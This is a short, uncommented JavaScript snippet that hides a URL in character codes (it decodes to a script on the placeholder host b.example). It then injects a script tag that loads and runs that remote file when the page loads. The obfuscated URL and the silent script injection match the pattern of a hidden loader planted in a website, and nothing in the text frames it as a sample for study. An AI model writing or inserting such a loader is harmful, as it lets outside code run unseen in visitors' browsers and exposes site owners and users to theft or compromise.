var u = String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 98, 46, 101, 120, 97, 109, 112, 108, 101, 47, 115, 46, 106, 115);
var d = document, s = d.createElement('script');
s.src = u;
s.id = 'swjs';
if (d.currentScript) d.currentScript.parentNode.insertBefore(s, d.currentScript);
else d.getElementsByTagName('head')[0].appendChild(s);
